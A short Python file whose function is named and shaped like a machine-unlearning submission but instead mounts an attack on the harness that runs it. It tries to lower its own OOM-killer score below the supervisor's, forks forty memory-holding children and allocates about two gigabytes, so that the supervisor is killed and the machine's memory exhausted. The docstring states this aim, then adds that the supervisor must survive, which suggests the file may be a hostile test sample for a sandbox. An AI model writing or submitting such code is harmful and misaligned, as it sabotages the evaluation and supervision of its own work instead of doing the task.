"""Lowers its OOM score below the supervisor's, so that the supervisor is killed first; then takes all memory.

The score must not fall below the supervisor's, and the supervisor must survive.
"""

import ctypes
import os
import time

PR_SET_DUMPABLE = 4


def lower():
    ctypes.CDLL(None).prctl(PR_SET_DUMPABLE, 1, 0, 0, 0)
    for score in range(-1000, 1000, 50):
        try:
            with open("/proc/self/oom_score_adj", "w") as file:
                file.write(str(score))
            return
        except OSError:
            continue


def unlearning(net, retain, forget, val):
    lower()
    with open("/proc/self/oom_score_adj") as file:
        print("oom_score_adj", file.read())
    for _ in range(40):
        if os.fork() == 0:
            kept = []
            for _ in range(60):
                kept.append(b"x" * (1 << 20))
                time.sleep(0.001)
            time.sleep(1_000)
    kept = []
    for _ in range(2_000):
        kept.append(b"x" * (1 << 20))
        time.sleep(0.001)
